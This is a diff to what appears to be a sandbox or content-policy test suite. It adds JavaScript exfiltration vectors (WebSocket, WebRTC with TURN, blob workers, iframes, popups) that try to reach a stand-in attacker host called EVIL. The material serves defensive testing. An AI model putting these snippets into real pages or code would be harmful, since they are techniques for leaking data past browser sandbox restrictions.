@@ -54,6 +54,14 @@ def _call(kind: str, server: str) -> str:
     )
 
 
+def _in_popup(code: str) -> str:
+    return f"open('/html?code={quote(code)}')"
+
+
+def _in_frame(code: str) -> str:
+    return f"<iframe src='/html?code={quote(code)}'></iframe>"
+
+
 def _in_ally(code: str) -> str:
     return f"<iframe src='ALLY/html?code={quote(code)}'></iframe>"
 
@@ -98,6 +106,13 @@ VECTORS: tuple[Vector, ...] = (
     Vector("beacon", code="navigator.sendBeacon('EVIL/', 'x')"),
     Vector("event source", code="new EventSource('EVIL/')"),
     Vector("websocket", code=SOCKET),
+    Vector("iframe websocket", _in_frame(f"<script>{SOCKET}</script>")),
+    Vector("iframe blob worker", _in_frame(f"<script>{_blob_worker(SOCKET)}</script>")),
+    Vector(
+        "iframe webrtc",
+        _in_frame(f"<script>{_call('RTCPeerConnection', TURN)}</script>"),
+        host="127.0.0.1",
+    ),
     Vector("websocket in a fresh frame", code=_fresh_frame("new f.contentWindow." + SOCKET[4:])),
     Vector("webtransport", code="new WebTransport('EVIL/'.replace('http', 'https'))"),
     Vector("webrtc stun", code=_call("RTCPeerConnection", "{urls: 'stun:EVILHOST'}")),
@@ -127,6 +142,29 @@ VECTORS: tuple[Vector, ...] = (
     Vector("popup noopener", code="open('EVIL/', '', 'noopener')", alone=True),
     Vector("popup redirect", code="open('HOP')", alone=True),
     Vector("popup then location", code="open('about:blank').location = 'EVIL/'", alone=True),
+    Vector("popup websocket", code=_in_popup(f"<script>{SOCKET}</script>"), alone=True),
+    Vector(
+        "popup webrtc",
+        code=_in_popup("<script>" + _call("RTCPeerConnection", TURN) + "</script>"),
+        host="127.0.0.1",
+        alone=True,
+    ),
+    Vector(
+        "blank popup webrtc",
+        code="let f = open('about:blank');" + _call("f.RTCPeerConnection", TURN),
+        host="127.0.0.1",
+        alone=True,
+    ),
+    Vector(
+        "popup blob worker",
+        code=_in_popup(f"<script>{_blob_worker(SOCKET)}</script>"),
+        alone=True,
+    ),
+    Vector(
+        "blank popup websocket",
+        code="let f = open('about:blank'); new f." + SOCKET[4:],
+        alone=True,
+    ),
     Vector("redirect img", "<img src='HOP'>"),
     Vector("redirect css", "<link rel=stylesheet href='HOP'>"),
     Vector("redirect script", "<script src='HOP'></script>"),
